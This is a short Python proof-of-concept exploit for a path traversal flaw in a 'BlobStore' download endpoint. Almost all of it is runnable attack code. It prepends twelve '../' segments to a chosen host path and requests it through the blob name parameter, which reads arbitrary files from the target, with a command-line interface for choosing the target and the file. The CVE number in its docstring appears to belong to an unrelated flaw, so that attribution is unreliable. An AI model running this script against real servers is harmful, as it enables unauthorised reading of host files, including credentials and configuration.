"""CVE-2024-32002: path traversal in the BlobStore download endpoint.

The blob name parameter is joined onto the storage root without
normalization, so a name containing ../../ segments walks out of the
store and can read arbitrary files from the host.
"""

import argparse

import requests


def fetch(base: str, victim_path: str) -> str:
    # Each ../ pops one directory; twelve is plenty for any sane prefix.
    blob = "../" * 12 + victim_path.lstrip("/")
    resp = requests.get(f"{base}/api/blob", params={"name": blob}, timeout=10)
    resp.raise_for_status()
    return resp.text


def main() -> None:
    parser = argparse.ArgumentParser(description="BlobStore traversal reader")
    parser.add_argument("--target", required=True, help="base address of the store")
    parser.add_argument("--path", default="/etc/hostname", help="host file to fetch")
    args = parser.parse_args()
    print(fetch(args.target, args.path))


if __name__ == "__main__":
    main()
